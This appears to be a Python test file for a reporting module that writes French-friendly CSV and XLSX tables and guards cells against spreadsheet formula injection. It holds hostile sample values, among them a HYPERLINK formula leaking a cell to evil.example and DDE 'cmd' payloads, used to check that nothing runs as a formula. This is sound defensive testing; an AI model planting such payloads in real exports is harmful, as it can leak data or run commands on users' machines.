"""Tables for people: read back the way a French Excel or LibreOffice would read them."""

from __future__ import annotations

import csv
import io
import json
import re
import threading
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook

from tasks.reporting import GUARD, read_table, write_table

BOM = b"\xef\xbb\xbf"
# What Excel or LibreOffice would start a formula with (OWASP), or trim into one.
FORMULA = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "   =1+1",
    '"=1+1"',
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]
PHONES = ["+33 6 12 34 56 78", "+33612345678", "+33 6 •• •• 56 78", "0612345678"]


def excel_cells(path: Path) -> list[list[str]]:
    """What a French Excel shows on a double-click: UTF-8 (BOM), split on ';'."""
    raw = path.read_bytes()
    assert raw.startswith(BOM)
    text = raw[len(BOM) :].decode("utf-8")
    assert csv.Sniffer().sniff(text.split("\r\n", 1)[0], delimiters=";,").delimiter == ";"
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))


def xml_text(value: str) -> str:
    """A string as an .xlsx gives it back: XML reads every line end as LF, as Excel writes."""
    return value.replace("\r\n", "\n").replace("\r", "\n")


def would_run(cell: str) -> bool:
    """A CSV cell a spreadsheet could run: a formula start, even after blanks or quotes."""
    return cell.startswith(FORMULA) or re.sub(r"^[\s\"']+", "", cell).startswith(FORMULA[:4])


def test_csv_opens_in_a_french_excel_with_accents_and_one_value_per_column(
    tmp_path: Path,
) -> None:
    header = ["row", "nom", "ville", "phone", "coût"]
    rows = [
        [1, "Hélène", "Saint-Denis; La Réunion", "+262 692 12 34 56", 0.045],
        [2, "Chloé", "Pointe-à-Pitre", "", 1234.5],
    ]
    csv_path, xlsx_path = write_table(tmp_path / "rejects", header, rows)
    assert (csv_path.name, xlsx_path.name) == ("rejects.csv", "rejects.xlsx")
    cells = excel_cells(csv_path)
    assert cells[0] == header and all(len(r) == len(header) for r in cells)
    assert [r[1] for r in cells[1:]] == ["Hélène", "Chloé"]
    assert cells[1][2] == "Saint-Denis; La Réunion"  # quoted, still one cell
    assert cells[1][4] == "0,045" and cells[2][4] == "1234,5"  # decimal comma: a number there
    assert cells[1][3] == GUARD + "+262 692 12 34 56"  # text, shown as written
    assert read_table(csv_path)[1][0] == ["1", "Hélène", rows[0][2], rows[0][3], "0,045"]
    assert sorted(p.name for p in tmp_path.iterdir()) == ["rejects.csv", "rejects.xlsx"]


def test_no_cell_runs_as_a_formula_and_numbers_stay_text(tmp_path: Path) -> None:
    values = HOSTILE + PHONES
    csv_path, xlsx_path = write_table(tmp_path / "t", ["value", "n"], [[v, 7] for v in values])
    written = [row[0] for row in excel_cells(csv_path)[1:]]
    assert not any(would_run(c) for c in written)
    assert [c.removeprefix(GUARD) for c in written] == values  # nothing else changed
    assert all(c.startswith(GUARD) for c in written)  # Excel would run or renumber each
    sheet = load_workbook(xlsx_path).active
    assert sheet is not None
    header, *rows = list(sheet.iter_rows())
    assert all(c.font.b for c in header) and [c.value for c in header] == ["value", "n"]
    for (cell, number), value in zip(rows, values, strict=True):
        assert cell.data_type == "s" and cell.number_format == "@"
        assert cell.value == xml_text(value)
        assert number.data_type == "n" and number.value == 7


def test_plain_words_and_numbers_are_written_as_they_are(tmp_path: Path) -> None:
    rows: list[list[Any]] = [["Anne", 12, 0.5, None, float("nan"), "2025-03-04T10:00:00+01:00"]]
    csv_path, xlsx_path = write_table(tmp_path / "t", list("abcdef"), rows)
    assert excel_cells(csv_path)[1] == ["Anne", "12", "0,5", "", "", "2025-03-04T10:00:00+01:00"]
    sheet = load_workbook(xlsx_path).active
    assert sheet is not None
    assert [c.value for c in sheet[2]] == ["Anne", 12, 0.5, None, None, rows[0][5]]


@settings(max_examples=40, deadline=None)
@given(st.lists(st.text(max_size=20), min_size=1, max_size=12))
def test_any_text_comes_back_exact_and_never_as_a_formula(
    tmp_path_factory: Any, values: list[str]
) -> None:
    folder = tmp_path_factory.mktemp("t")
    csv_path, xlsx_path = write_table(folder / "t", ["v", "n"], [[v, 1] for v in values])
    cells = [row[0] for row in excel_cells(csv_path)[1:]]
    assert not any(would_run(c) for c in cells)
    assert read_table(csv_path) == (["v", "n"], [[v, "1"] for v in values])
    sheet = load_workbook(xlsx_path).active
    assert sheet is not None
    for (cell, _), value in zip(sheet.iter_rows(min_row=2), values, strict=True):
        if not value:
            assert cell.value is None  # an empty cell
            continue
        assert cell.data_type == "s"  # a string cell, never a formula
        # XML 1.0 cannot hold most control characters: they become U+FFFD, the rest is exact.
        if all(ch in "\t\n\r" or ch >= " " for ch in value):
            assert (cell.value or "") == xml_text(value)


def test_a_write_replaces_the_old_table_whole(tmp_path: Path) -> None:
    write_table(tmp_path / "chunks", ["a"], [["old"]] * 3)
    write_table(tmp_path / "chunks", ["a"], [["new"]])
    assert read_table(tmp_path / "chunks.csv") == (["a"], [["new"]])
    assert sorted(p.name for p in tmp_path.iterdir()) == ["chunks.csv", "chunks.xlsx"]


def test_the_older_comma_csv_still_reads(tmp_path: Path) -> None:
    old = tmp_path / "rejects.csv"
    old.write_text("row,phone,reason\n1,'+33612345678,duplicate\n", encoding="utf-8")
    assert read_table(old) == (["row", "phone", "reason"], [["1", "'+33612345678", "duplicate"]])


def follow_up_result(n_chunks: int) -> tuple[Any, list[Any]]:
    from tasks.delivery import ChunkDelivery, aggregate

    deliveries = [
        ChunkDelivery(
            chunk_index=i,
            territory="RE" if i % 2 else "FR",
            size=500,
            counts={"delivered": 480, "not_delivered": 10, "waiting": 5, "other": 5},
            stops=("+262692000001",) if i == 1 else (),
            source="message",
            last_status_at="2025-03-04T09:03:00+00:00",
            problem="=cmd|' /C calc'!A0" if i == 0 else None,
        )
        for i in range(n_chunks)
    ]
    checked = datetime(2025, 3, 5, 9, 0, tzinfo=UTC)
    return aggregate("c1", deliveries, checked_at=checked), deliveries


def test_the_follow_up_writes_its_chunks_as_a_table_too(tmp_path: Path) -> None:
    from tasks.delivery import DELIVERY_COLUMNS
    from tasks.delivery_io import write_follow_up

    result, deliveries = follow_up_result(3)
    path = write_follow_up(tmp_path, result, deliveries)
    assert json.loads(path.read_text(encoding="utf-8"))["chunks_checked"] == 3
    cells = excel_cells(tmp_path / "delivery.csv")
    assert cells[0] == list(DELIVERY_COLUMNS)
    assert cells[1][:4] == ["0", "FR", "500", "480"] and cells[2][1] == "RE"
    assert not any(would_run(c) for row in cells for c in row)
    assert "+262692000001" not in (tmp_path / "delivery.csv").read_text(encoding="utf-8-sig")
    sheet = load_workbook(tmp_path / "delivery.xlsx").active
    assert sheet is not None
    problem = sheet.cell(row=2, column=len(DELIVERY_COLUMNS))
    assert problem.value == "=cmd|' /C calc'!A0" and problem.data_type == "s"


def test_two_follow_ups_writing_at_once_never_publish_half_a_file(tmp_path: Path) -> None:
    from tasks.delivery_io import write_follow_up

    result, deliveries = follow_up_result(150)  # a follow_up.json of about 70 kB
    path = tmp_path / "follow_up.json"
    write_follow_up(tmp_path, result, deliveries)
    stop = threading.Event()
    errors: list[BaseException] = []

    def writer() -> None:
        try:
            for _ in range(10):
                write_follow_up(tmp_path, result, deliveries)
        except BaseException as exc:  # reported below
            errors.append(exc)

    def reader() -> None:
        while not stop.is_set():
            try:
                json.loads(path.read_text(encoding="utf-8"))
            except BaseException as exc:  # reported below
                errors.append(exc)
                return

    threads = [threading.Thread(target=writer) for _ in range(2)]
    watcher = threading.Thread(target=reader)
    watcher.start()
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    stop.set()
    watcher.join()
    assert errors == []
    leftovers = {p.name for p in tmp_path.iterdir()}
    assert leftovers == {"follow_up.json", "delivery.csv", "delivery.xlsx"}


def test_long_ids_and_numpy_values_keep_every_digit(tmp_path: Path) -> None:
    import numpy as np

    rows: list[list[Any]] = [[123456789012345678, np.int64(42), np.float64(0.25), True]]
    csv_path, xlsx_path = write_table(tmp_path / "t", list("abcd"), rows)
    assert excel_cells(csv_path)[1] == [GUARD + "123456789012345678", "42", "0,25", "True"]
    sheet = load_workbook(xlsx_path).active
    assert sheet is not None
    assert [c.value for c in sheet[2]] == ["123456789012345678", 42, 0.25, "True"]


# -- the .xlsx for people: sized, frozen, filtered, in French -----------------------------------


def _shown(value: object) -> int:
    return len(str(value)) if value is not None else 0


@settings(max_examples=30, deadline=None)
@given(
    st.lists(
        st.tuples(
            st.text(alphabet=st.characters(categories=["L", "N", "Zs"]), max_size=70),
            st.integers(min_value=-(10**12), max_value=10**12),
        ),
        max_size=12,
    )
)
def test_xlsx_columns_fit_their_header_and_values_with_the_header_frozen_and_filters_on(
    rows: list[tuple[str, int]],
) -> None:
    import tempfile

    header = ["numéro de téléphone du destinataire", "n"]
    with tempfile.TemporaryDirectory() as folder:
        _, xlsx_path = write_table(Path(folder) / "t", header, rows)
        sheet = load_workbook(xlsx_path).active
        assert sheet is not None
        assert sheet.freeze_panes == "A2"  # the header stays on screen
        assert sheet.auto_filter.ref == f"A1:B{len(rows) + 1}"  # a filter on every row
        for letter, column in zip("AB", zip(header, *rows, strict=False), strict=True):
            widest = max(_shown(v) for v in column)
            width = sheet.column_dimensions[letter].width
            assert width >= min(widest, 60), (letter, widest, width)  # long text wraps past 60


def test_report_xlsx_speaks_french_while_the_csv_keeps_its_codes(tmp_path: Path) -> None:
    import pandas as pd
    from helpers import chunk_row

    from tasks.reporting import write_files
    from tasks.row_columns import DETAIL, E164, OUTCOME, REASON, ROW

    rows = pd.DataFrame(
        {
            ROW: [1, 2],
            "tel": ["06 12 34 56 78", "bonjour"],
            OUTCOME: ["sent", "rejected"],
            REASON: [None, "not_a_number"],
            DETAIL: [None, "letters in the cell"],
            E164: ["+33612345678", None],
        }
    )
    chunk = chunk_row(
        territory="RE", slot="2026-12-08T10:00:00+01:00", numbers=("+262692000000",), state="sent"
    )
    write_files(tmp_path, {"campaign_id": "c"}, [chunk], rows, ["tel"], lang="fr")

    def cells(name: str) -> list[list[object]]:
        sheet = load_workbook(tmp_path / name).active
        assert sheet is not None
        return [list(r) for r in sheet.iter_rows(values_only=True)]

    rejects = cells("rejects.xlsx")
    assert rejects[0] == [
        "ligne",
        "tel",
        "résultat",
        "motif",
        "précision",
        "numéro (format international)",
    ]
    assert rejects[1][2:5] == ["rejeté", "pas un numéro", None]  # the English detail left out
    chunks = cells("chunks.xlsx")
    assert chunks[0][:5] == [
        "lot",
        "destinataires",
        "territoire",
        "créneau",
        "étiquette de l'envoi",
    ]
    assert chunks[1][2] == "La Réunion (RE)" and chunks[1][8] == "envoyé"
    assert chunks[1][3] == "mardi 8 décembre 13:00 (heure de La Réunion)"
    # The CSV files are for programs: column names and codes as the README lists them.
    assert read_table(tmp_path / "rejects.csv")[1][0][2:5] == [
        "rejected",
        "not_a_number",
        "letters in the cell",
    ]
    header, values = read_table(tmp_path / "chunks.csv")
    assert header[:4] == ["index", "size", "territory", "slot"] and values[0][8] == "sent"
